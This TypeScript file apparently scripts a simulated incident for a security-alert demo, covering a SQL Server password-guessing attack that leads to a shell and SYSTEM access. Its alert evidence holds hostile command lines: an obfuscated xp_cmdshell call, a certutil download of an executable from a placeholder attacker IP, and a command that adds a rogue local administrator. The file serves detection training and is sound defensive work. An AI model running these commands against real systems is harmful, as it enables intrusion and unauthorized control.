// Someone guesses the password of a SQL sign-in, runs commands through the database and moves to its machine.
import { azureResource } from '../clouds.ts';
import { DEVICES, file, localDatabase, processChain, virtualMachine } from '../devices.ts';
import type { ProcessStep } from '../devices.ts';
import { connection, dns, ip, url } from '../network.ts';
import { localAccount, localUser } from '../people.ts';
import { inOrder, seen } from '../script.ts';
import type { AlertScript, IncidentScript, Sighting } from '../script.ts';

const server = DEVICES['vm-tos-sql01'];
const machine = virtualMachine('vm-tos-sql01');
const instance = azureResource(
  'production',
  'rg-terminal-ops',
  'Microsoft.SqlVirtualMachine/sqlVirtualMachines',
  'vm-tos-sql01',
);
const database = localDatabase(machine, 'TOSREPORT');
const guesser = ip('192.0.2.41');
const loader = ip('203.0.113.144');
const login = localUser('report_ro', 'vm-tos-sql01');
const sqlService = localAccount(
  'MSSQLSERVER',
  'NT SERVICE',
  'S-1-5-80-3880718306-3832830129-1677859214-2598158968-1052248003',
);
const sqlserver =
  'C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe';
const cmd = 'C:\\Windows\\System32\\cmd.exe';
const BAD = { verdict: 'malicious', remediation: 'active' } as const;
const ODD = { verdict: 'suspicious', remediation: 'active' } as const;

interface Probe {
  readonly after: string;
  readonly type: string;
  readonly title: string;
  readonly severity: AlertScript['severity'];
  readonly category: string;
  readonly techniques: readonly string[];
  readonly tells: string;
  readonly lasts?: string;
  readonly also?: readonly Sighting[];
}

const onDatabase = ({ also = [], ...probe }: Probe): AlertScript => ({
  lasts: '3m',
  ...probe,
  from: 'cloudDatabases',
  advice:
    'Close port 1433 to the internet, disable the sign-in, look for jobs and assemblies that were made.',
  evidence: [
    seen(instance, 'attacked'),
    seen(machine, 'attacked'),
    seen(database, 'attacked'),
    seen(server, 'attacked'),
    seen(guesser, 'attacker', { verdict: 'malicious' }),
    ...also,
  ],
});

const guessing: readonly AlertScript[] = [
  ...['0m', '1h02m', '2h11m', '3h40m', '5h05m'].map((after) =>
    onDatabase({
      after,
      lasts: '50m',
      type: 'SQL.VM_BruteForce',
      title: 'Suspected brute force attack',
      severity: 'high',
      category: 'PreAttack',
      techniques: ['T1110.001'],
      tells: 'Thousands of failed sign-ins with many names: sa, admin, report, kisadmin.',
    }),
  ),
  onDatabase({
    after: '5h58m',
    type: 'SQL.VM_BruteForce',
    title: 'Suspected brute force attack using a valid user',
    severity: 'high',
    category: 'PreAttack',
    techniques: ['T1110.001'],
    tells: 'The guesses now go to report_ro, a sign-in that exists.',
    also: [seen(login, 'attacked')],
  }),
  onDatabase({
    after: '6h31m',
    type: 'SQL.VM_BruteForce',
    title: 'Suspected successful brute force attack',
    severity: 'high',
    category: 'PreAttack',
    techniques: ['T1110.001', 'T1078.003'],
    tells: 'After 41,807 failures a sign-in of report_ro succeeded.',
    also: [seen(login, 'compromised', BAD)],
  }),
  onDatabase({
    after: '6h32m',
    type: 'SQL.VM_PrincipalAnomaly',
    title: 'Login from a principal user not seen in 60 days',
    severity: 'medium',
    category: 'Exploitation',
    techniques: ['T1078.003'],
    tells: 'report_ro had not been used since the reporting moved to another server.',
    also: [seen(login, 'compromised', BAD)],
  }),
  onDatabase({
    after: '6h33m',
    type: 'SQL.VM_GeoAnomaly',
    title: 'Log on from an unusual location',
    severity: 'medium',
    category: 'Exploitation',
    techniques: ['T1078.003'],
    tells: 'A first sign-in from Nigeria.',
    also: [seen(login, 'compromised', BAD)],
  }),
  onDatabase({
    after: '6h40m',
    type: 'SQL.VM_HarmfulApplication',
    title: 'Logon activity from a potentially harmful application',
    severity: 'high',
    category: 'PreAttack',
    techniques: ['T1588.002'],
    tells: 'The client calls itself sqlmap/1.8.',
    also: [seen(login, 'compromised', BAD)],
  }),
];

const shell: readonly AlertScript[] = [
  onDatabase({
    after: '7h02m',
    type: 'SQL.VM_PotentialSqlInjection',
    title: 'Unusual payload with obfuscated parts has been initiated by SQL Server',
    severity: 'high',
    category: 'Execution',
    techniques: ['T1059', 'T1027'],
    tells: "EXEC('ex'+'ec mas'+'ter..xp_'+'cmdshell ''who'+'ami''')",
    also: [seen(login, 'compromised', BAD)],
  }),
  onDatabase({
    after: '7h05m',
    type: 'SQL.VM_ShellExternalSourceAnomaly',
    title:
      'SQL Server potentially spawned a Windows command shell and accessed an abnormal external source',
    severity: 'high',
    category: 'Execution',
    techniques: ['T1059.003', 'T1105'],
    tells: 'xp_cmdshell was turned on, and a shell fetched a file.',
    also: [
      ...processChain({
        on: server,
        as: sqlService,
        steps: [
          [sqlserver, 'sqlservr.exe -sMSSQLSERVER'],
          [
            cmd,
            '"C:\\Windows\\system32\\cmd.exe" /c certutil -urlcache -f http://203.0.113.144/s.txt C:\\Windows\\Temp\\s.exe',
          ],
        ],
        judgement: BAD,
      }),
      seen(loader, 'source', { verdict: 'malicious' }),
      seen(url('http://203.0.113.144/s.txt'), 'suspicious', { verdict: 'malicious' }),
    ],
  }),
];

interface Step {
  readonly after: string;
  readonly title: string;
  readonly severity: AlertScript['severity'];
  readonly category: string;
  readonly techniques: readonly string[];
  readonly tells: string;
  readonly steps: readonly ProcessStep[];
  readonly also?: readonly Sighting[];
}

const onMachine = ({ steps, also = [], ...step }: Step): AlertScript => ({
  ...step,
  from: 'endpoint',
  advice: 'Isolate the machine and keep its memory.',
  evidence: [
    seen(server, 'compromised', { ...ODD, detailedRoles: ['Main device'] }),
    seen(machine, 'compromised'),
    ...processChain({ on: server, as: sqlService, steps, judgement: BAD }),
    ...also,
  ],
});

const shellStep: ProcessStep = [
  cmd,
  '"C:\\Windows\\system32\\cmd.exe" /c C:\\Windows\\Temp\\s.exe',
];
const beacon: ProcessStep = ['C:\\Windows\\Temp\\s.exe', 'C:\\Windows\\Temp\\s.exe'];

const machineSteps: readonly AlertScript[] = [
  onMachine({
    after: '7h05m',
    title: 'Suspicious behavior by SQL Server was observed',
    severity: 'medium',
    category: 'Execution',
    techniques: ['T1059.003', 'T1505.001'],
    tells: 'sqlservr.exe started cmd.exe.',
    steps: [
      [sqlserver, 'sqlservr.exe -sMSSQLSERVER'],
      [cmd, '"C:\\Windows\\system32\\cmd.exe" /c whoami'],
    ],
  }),
  onMachine({
    after: '7h06m',
    title: 'Suspicious use of certutil.exe to download a file',
    severity: 'medium',
    category: 'CommandAndControl',
    techniques: ['T1105'],
    tells: 'certutil fetched a program over plain HTTP.',
    steps: [
      [cmd, '"C:\\Windows\\system32\\cmd.exe" /c certutil ...'],
      [
        'C:\\Windows\\System32\\certutil.exe',
        'certutil -urlcache -f http://203.0.113.144/s.txt C:\\Windows\\Temp\\s.exe',
      ],
    ],
    also: [
      seen(file(server, 'C:\\Windows\\Temp\\s.exe'), 'created', BAD),
      seen(loader, 'source', { verdict: 'malicious' }),
    ],
  }),
  onMachine({
    after: '7h11m',
    title: 'Possible privilege escalation with token impersonation',
    severity: 'high',
    category: 'PrivilegeEscalation',
    techniques: ['T1134.001'],
    tells: 'A service account with SeImpersonatePrivilege became SYSTEM.',
    steps: [
      shellStep,
      beacon,
      [
        'C:\\Windows\\Temp\\gp.exe',
        'gp.exe -cmd "cmd /c net user sqladm P@ss_2219 /add & net localgroup administrators sqladm /add"',
      ],
    ],
    also: [seen(localUser('sqladm', 'vm-tos-sql01'), ['created', 'added'], BAD)],
  }),
  onMachine({
    after: '7h20m',
    title: 'New local administrator added by an unusual process',
    severity: 'medium',
    category: 'Persistence',
    techniques: ['T1136.001'],
    tells: 'sqladm was made and put into Administrators.',
    steps: [
      beacon,
      ['C:\\Windows\\System32\\net.exe', 'net localgroup administrators sqladm /add'],
    ],
    also: [seen(localUser('sqladm', 'vm-tos-sql01'), ['created', 'added'], BAD)],
  }),
  onMachine({
    after: '7h44m',
    title: 'Suspicious connection to a raw address over an uncommon port',
    severity: 'medium',
    category: 'CommandAndControl',
    techniques: ['T1571'],
    tells: 's.exe keeps a connection to port 8443.',
    steps: [shellStep, beacon],
    also: [
      seen(connection(['10.50.2.4', 50991], ['203.0.113.144', 8443]), 'suspicious'),
      seen(loader, 'commandAndControl', { verdict: 'malicious' }),
      seen(dns('sql-telemetry.example', '10.50.2.4', ['203.0.113.144']), 'suspicious'),
    ],
  }),
  onMachine({
    after: '8h30m',
    title: 'Enumeration of files with sensitive data',
    severity: 'low',
    category: 'Discovery',
    techniques: ['T1083'],
    tells: 'Backups of the terminal database were listed.',
    steps: [beacon, [cmd, 'cmd /c dir /s /b E:\\Backup\\*.bak']],
  }),
];

export const SQL_BRUTE_FORCE: IncidentScript = {
  key: 'sql-brute-force',
  id: '4154',
  startsAt: '-6d 01:15',
  tells:
    'The password of report_ro on vm-tos-sql01 was guessed. xp_cmdshell gave the guesser a shell, and token impersonation gave them the machine.',
  name: 'SQL brute force to shell on vm-tos-sql01',
  status: 'inProgress',
  assignedTo: 'lin.zhao@northwindharbor.example',
  classification: 'truePositive',
  determination: 'multiStagedAttack',
  priority: 79,
  customTags: ['SQL', 'Internet exposed'],
  comments: [
    {
      after: '9h',
      by: 'lin.zhao@northwindharbor.example',
      text: 'Port 1433 was open by a rule from a migration in 2024. Closed.',
    },
    {
      after: '2d3h',
      by: 'ben.sorensen@northwindharbor.example',
      text: 'Memory image is clean of other implants. sqladm removed.',
    },
  ],
  alerts: inOrder(guessing, shell, machineSteps),
  continues: [
    onDatabase({
      after: '0s',
      type: 'SQL.VM_BruteForce',
      title: 'Suspected brute force attack',
      severity: 'high',
      category: 'PreAttack',
      techniques: ['T1110.001'],
      tells:
        'Guessing goes on from the same network, now against a closed port of the public address.',
    }),
  ],
};
